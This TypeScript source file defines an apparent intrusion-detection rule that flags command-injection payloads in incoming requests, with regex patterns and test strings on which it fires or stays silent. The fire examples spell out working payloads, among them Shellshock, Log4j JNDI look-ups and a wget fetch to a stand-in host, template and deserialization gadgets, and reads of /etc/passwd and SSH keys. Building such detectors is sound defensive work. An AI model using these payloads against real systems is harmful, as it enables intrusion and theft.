import { isCommandInRequest } from '../../request-command.js';
import { isInRequest, requestValueBefore } from '../../request-value.js';
import type { Candidate, Rule } from '../../rule.js';

/** Whether a match stands in the value of a request; a text on its own is one only behind a single word. */
function isInjected(before: string, fromStart: boolean): boolean {
  const value = requestValueBefore(before, fromStart);
  return value !== undefined && (!value.bare || /^\S*\s?[&|]?$/.test(value.before));
}

/** What prints a file, and what picks from one and is told what before it: `cut -d: -f1`, `grep root`. */
const READER =
  /(?:^|[;|&`({]\s?)(?:\/?(?:usr\/)?s?bin\/)?(?:(?:base(?:32|64)|bat|bz?cat|cat|comm|cut|diff|expand|file|fmt|fold|head|hd|hexdump|iconv|join|less|look|more|nl|od|paste|rev|shuf|sort|split|strings|tac|tail|tee|uniq|view|vim?|wc|x(?:xd|zcat)|zcat)(?:[\s+]-\S*)*|(?:[efz]?grep|[gmn]?awk|rg|sed)(?:[\s+]-\S+)*(?:[\s+][^\s;|&]+)?)$/;
/** What a shell takes off or fills in inside of a name: `c\\at`, `c''at`, `c*at`. */
const DISGUISE = /["'\\*?]|\$[@*!?#-]/g;
/** The end of the command, or more of it. */
const END_OF_READ = /^\s*(?:$|["'`;|&)>#\n]|\/\w|-\w|\sHTTP)/;

/** Whether the file that a match names is read where a value begins or behind a separator in it. */
function isRead(match: Candidate): boolean {
  const value = requestValueBefore(match.before, match.fromStart);
  return value?.sent === true && READER.test(value.before.replace(DISGUISE, '')) && END_OF_READ.test(match.after);
}

/** How zsh expands a word as if a variable held it, `${${:-$HOME/x}:A}`; a look-up hides a few letters so. */
const OF_ZSH = /^-(?!\w{1,4}\})/;

export const rule: Rule = {
  pattern: 'command_injection',
  variant: 'payload',
  threat: 'INJECTION',
  direction: 'inbound',
  severity: 'high',
  confidence: 'high',
  group: 'command-injection',
  about:
    'A text that exists for nothing but breaking into a program that passes it on: to a shell, a page or a logger.',
  anatomy: 'function definitions of Shellshock, server-side includes, JNDI look-ups, separators before system paths',
  source: 'https://cwe.mitre.org/data/definitions/77.html and https://nvd.nist.gov/vuln/detail/CVE-2014-6271',
  match: [
    { re: /(?<!\w)\(\) ?\{ ?:; ?\}/ },
    { re: /\(\) ?\{ ?_; ?\} ?>_\[/ },
    {
      re: /:\s\(\) ?\{/,
      accept: ({ before, after, fromStart }) =>
        /(?:^|\n)[\w-]{3,30}$/.test(before) &&
        /^\s*(?:$|:|_|\w+;\s?\})/.test(after) &&
        requestValueBefore(`${before}: `, fromStart) !== undefined,
    },
    // A definition that a value or a name of a parameter begins with
    {
      re: /[=?&]["']?\(\) ?\{/,
      accept: (match) => /^[ \t]*(?:$|["'=\n]|[:_]\s?;|\w+;\s?\})/.test(match.after) && isInRequest(match),
    },
    // Commands written in nothing but arithmetic: `$((1<<1))#1001` is a number in base two
    { re: /\$\(\((?:1<<1|\$#\+\$\(\(|\$\{##\})/ },
    { re: /<!--\s?#\s?(?:exec|include)\s+(?:cmd|cgi|virtual|file)=/i },
    { re: /jndi:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?):\/\// },
    {
      re: /\$\{(?:jndi|\$\{(?:lower|upper|env|sys|::-|:)|(?:lower|upper):[jndi]\})/,
      accept: ({ text, after }) => !(text.endsWith('{:') && OF_ZSH.test(after)),
    },
    {
      re: /[;|&`]\s?(?:\/bin\/)?(?:cat|head|tail|more|less|nl|tac|strings)\s+(?:\/etc\/(?:passwd|shadow|group|hosts)|\/proc\/self|\.\.\/\.\.\/)/,
      // In Markdown a word in such quotes is code that is shown; a shell's stand in something else.
      accept: ({ before, text, fromStart }) =>
        !text.startsWith('`') || /[^\s(*_>]$/.test(before) || requestValueBefore(before, fromStart)?.bare === false,
    },
    {
      re: /(?:'|")?\s?(?:;|\|\|?|&&?)\s?(?:sleep|ping\s+-[nci])\s+\d{1,3}(?:\s+127\.0\.0\.1)?\s?(?:;|\||&|#|'|")/,
      accept: ({ before, fromStart }) => isInjected(before, fromStart),
    },
    // A call that only a probe makes, in the value of a request.
    { re: /\{\$\{(?:phpinfo|print|eval|system|exec|sleep|passthru|@print|@eval|@system)\(/ },
    { re: /=phpinfo\(\)/, accept: isInRequest },
    {
      re: /[;|&'"]\s?phpinfo\(\)/,
      accept: ({ before, fromStart }) => isInjected(before, fromStart),
    },
    {
      re: /(?:system|exec|eval|passthru|shell_exec|popen|proc_open)\(["'](?:cat|type|less|head)[ +%]{1,3}(?:20)?(?:\/etc\/|c:\\boot)/i,
    },
    {
      re: /(?:system|exec|eval|passthru|shell_exec|popen|proc_open)\(["'](?:whoami|uname(?: -a)?|id|pwd|dir|ls(?: -\w{1,4})?|sleep \d{1,3}|(?:curl|wget) https?:\/\/[\w./?=&: -]{4,100})["']\s?[,)]/i,
      accept: ({ before, fromStart }) => isInjected(before, fromStart),
    },
    // A call in code that goes where everybody may write, to fetch something there
    { re: /(?:system|exec|popen|passthru)\(["'](?:\w+ )?cd \/(?:var\/)?tmp ?[;&]/, accept: isInRequest },
    { re: /(?<=\()(?:T\(java\.lang\.Runtime\)|new java\.lang\.ProcessBuilder)/ },
    { re: /\{\{[^}\n]*(?:__class__|__globals__|__import__|__subclasses__|popen\s*\(|getRuntime)/, window: 300 },
    { re: /%\{\(?#[\w.]+=[^\n]*@java\.lang\.Runtime/, window: 600 },
    { re: /@java\.lang\.Runtime@getRuntime/ },
    { re: /';?\s?exec\s(?:master\.\.)?xp_cmdshell/i },
    // How code in a template, a document or a settings file reaches a shell: no program is written so.
    { re: /process\.mainModule\.(?:require\(|constructor)/ },
    { re: /\.constructor\(\s?["']return (?:process|this\.process|global)/ },
    { re: /freemarker\.template\.utility\.(?:Execute|ObjectConstructor)["']\?new/ },
    { re: /\.(?:inspect|forName)\(["']java\.lang\.(?:Runtime|ProcessBuilder)["']\)/ },
    { re: /!!python\/object\/(?:apply|new):(?:os|posix|subprocess|builtins|__builtin__|commands|nt)\./ },
    { re: /!!javax\.script\.ScriptEngineManager\s?\[/ },
    // What programs that unpack an object or fill a form by name are made to run (CWE-502, CVE-2022-22965)
    {
      re: /@type["']\s?:\s?["']com\.sun\.(?:rowset\.JdbcRowSetImpl|org\.apache\.xalan\.internal\.xsltc\.trax\.TemplatesImpl)/,
    },
    { re: /_\$\$ND_FUNC\$\$_function/ },
    { re: /\{\{\s?_self\.env\.(?:registerUndefinedFilterCallback|getFilter|setCache)\(/ },
    { re: /@ognl\.OgnlContext@DEFAULT_MEMBER_ACCESS/ },
    { re: /class\.module\.classLoader\.resources\.context\.parent\.pipeline/ },
    { re: /["']java\.lang\.ProcessBuilder["']/, accept: ({ before }) => /\sclass=$/.test(before) },
    // Files and commands behind the wrappers of PHP, and what leads out of a folder, where a value begins.
    {
      re: /=(?:php:\/\/(?:filter|input)|expect:\/\/\w|data:\/\/text\/plain|file:\/\/\/(?:etc|proc|[a-z]:)\/)/i,
      accept: isInRequest,
    },
    {
      re: /\.\.[\\/]{1,3}(?:etc[\\/](?:passwd|shadow|hosts)|proc[\\/]self|windows[\\/](?:win\.ini|system32)|boot\.ini)(?!\w)/i,
      accept: isInRequest,
    },
    // What no page is called, where a value begins: `file=/etc/shadow`
    {
      re: /(?:=|[Rr]eferr?er: )(?:\.?\/){0,2}(?:etc\/(?:\.?\/)?(?:group|passwd|shadow|sudoers|master\.passwd|s?pwd\.db|crontab|fstab|hosts|hosts\.(?:allow|deny)|mtab|shells|my\.cnf)|proc\/(?:self\/(?:environ|cmdline|maps|mem|fd|status)|cpuinfo|version|mounts|net\/(?:arp|route|tcp))|(?:root|home\/\w+)\/\.(?:bash_history|ssh\/\w+)|var\/log\/(?:auth|secure|syslog)(?:\.log)?)(?![\w.-])/,
      accept: isInRequest,
    },
    // What people look for when it fails, too, so that the value must end there
    { re: /=\/?etc\/(?:resolv\.conf|ssh\/sshd_config|nginx\/nginx\.conf)(?=[;|&\n]|$)/, accept: isInRequest },
    { re: /=["']\/?etc\/(?:passwd|shadow|sudoers)(?![\w.-])/, accept: isInRequest },
    { re: /=["']?\/?dev\/(?:tcp|udp)\//, accept: isInRequest },
    // Any program that prints it, where a value begins: `xxd /etc/passwd`
    { re: /[ +]\/etc\/(?:group|passwd|shadow|hosts|sudoers|crontab)(?![\w.-])/, accept: isRead },
    // A program by no name that is known here, but with an option: `;rake --version`
    { re: /=[;|]["']?[a-z][\w.-]+["']? --?[a-z]/, accept: isInRequest },
    // Options that name a program to run, in the place of a file or a host.
    { re: /=--?(?:oProxyCommand|upload-pack|use-askpass|checkpoint-action)=/, accept: isInRequest },
    {
      re: /%comspec%\s?\/[ckr]\s/i,
      accept: ({ before, fromStart }) => /[;|&=]\s?$/.test(before) && isInjected(before, fromStart),
    },
    { re: /%(?:common)?program(?:files|data)(?:\(x86\))?:~-?\d{1,2},-?\d{1,2}%/i },
    {
      re: /[=;|& ](?:invoke-(?:expression|webrequest|command)|get-(?:childitem|content|process|service|wmiobject))(?=[\s+;|&)]|$)/i,
      accept: (match) => isCommandInRequest(match, 'sure'),
    },
    {
      re: /[=;|& ](?:start-process|start-sleep|write-host|remove-item)(?=[\s+;|&)]|$)/i,
      accept: (match) => isCommandInRequest(match, 'sure'),
    },
    {
      re: /<!DOCTYPE\s[^>\n]*<!ENTITY\s+%?\s*\w+\s+SYSTEM\s+["'](?:file:\/\/\/(?:etc|proc|[a-z]:)|expect:|php:)/i,
      window: 300,
    },
    {
      re: /<\?xml[^]*<!ENTITY\s+%?\s*\w+\s+SYSTEM\s+["'](?:file|https?|expect|php|ftp):/,
      window: 600,
      accept: ({ text }) => /file:\/\/\/(?:etc|proc|c:)|expect:|php:/i.test(text),
    },
  ],
  examples: {
    fires: [
      '/get?file=//etc/./passwd',
      '/get\nReferer: /etc/hosts',
      '/get?file=/etc/resolv.conf',
      '/post\n<?xml version="1.0"?><r><a b="/etc/passwd"></a></r>',
      '/get?x=/dev/tcp/',
      '/post\nx=;flock -u / id\n',
      '/get?x=xxd /etc/passwd',
      '/get?host=files.invalid;c*at+/etc/passwd',
      '/post\ncode=grep root /etc/passwd\n',
      '/post\narg=\ncut -c1-9 /etc/passwd; Something',
      '/post\narg=;rake --version\n',
      '/get?file=/proc/net/arp',
      '/post\nfile=root/.ssh/id_rsa\n',
      '/post\nx=() { x; };\n',
      '/get?file=etc/shadow',
      "/get?x=system('wget http://files.invalid/a -O b');",
      '/post\nfoo=() {',
      '() { :;}; /bin/sleep 5',
      '<!--#exec cmd="/bin/cat /etc/passwd"-->',
      '${jndi:ldap://files.invalid/a}',
      'x; cat /etc/passwd',
      "$0<<<$'\\\\$(($((1<<1))#10011010))'",
      '/get?x=`cat /etc/passwd`',
      '/get?host=127.0.0.1 && sleep 5 #',
      '${${lower:j}ndi:ldap://files.invalid/a}',
      "{{ ''.__class__.__mro__[1].__subclasses__() }}",
      '{${phpinfo()}}',
      "/get?x=';phpinfo();//",
      "system('cat /etc/passwd');",
      "/get?x=1;system('whoami');",
      "/get?x=passthru('ls -la');",
      '/get?x=phpinfo();',
      "/post\narg=system('echo cd /tmp;ftp http://files.invalid/a -O b;perl b')\n",
      "process.mainModule.require('child_process').execSync('id')",
      '${"freemarker.template.utility.Execute"?new()("id")}',
      '!!python/object/apply:os.system ["id"]',
      '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://files.invalid/a"}',
      '{"x":"_$$ND_FUNC$$_function (){}()"}',
      '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
      '%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}',
      'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp',
      '<void class="java.lang.ProcessBuilder" method="start"/>',
      '/get?x=1; Start-Sleep -s 5',
      '/get?page=php://filter/convert.base64-encode/resource=index.php',
      '/get?page=../../../../etc/passwd',
      '/get?repo=--upload-pack=id',
      '/get?x=a & %COMSPEC% /c whoami',
      '/get?x=%PROGRAMFILES:~10,-5%dir',
      '/get?x=a; Get-Content c:\\a.txt',
      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    ],
    silent: [
      '/search?q=/etc/nginx/nginx.conf test failed',
      '/get?exe=/usr/bin/gnome-shell',
      '/get?x=;p -cheers',
      '/post\n<?xml version="1.0"?><c><file path="/etc/hosts"/></c>',
      '/get?x=/dev/sda1',
      '/get?q=what sort of file is /etc/passwd',
      '/post\ntext=sort /etc/hosts by name\n',
      'sort /etc/passwd',
      '/post\ntext=;-) --see you\n',
      'x=;rake --version is shown',
      '/get?f=() { return 1; }',
      'FILE=/etc/group',
      '/get?page=/etc/hosts.html',
      '/post\nfoo=() => { x() }',
      'function f() { return 1; }',
      '<!-- #include the header -->',
      'the JNDI lookup of a data source: java:comp/env',
      'first; cat file.txt',
      '{{ user.name }}',
      "const name = run(() => {\n  exec('whoami');",
      'See the output of phpinfo().',
      "os.system('cd /tmp; make')",
      'Run %COMSPEC% /c ver to see it.',
      'See ../../etc/passwd in the sandbox of the test.',
      '- !!python/object/apply:mytests.Point [1, 2]',
      'if (process.mainModule === module) main();',
      '$twig->registerUndefinedFilterCallback(function ($name) {',
      'import com.sun.rowset.JdbcRowSetImpl;',
      '<bean id="run" class="org.example.ProcessBuilder"/>',
      '<!DOCTYPE note SYSTEM "note.dtd">',
      'Use Get-Content to read a file; Remove-Item deletes it.',
      '- Print the accounts of this machine:\n\n`cat /etc/passwd`',
      'ssh -f user@host "echo foo; sleep 5; echo bar"',
    ],
  },
};
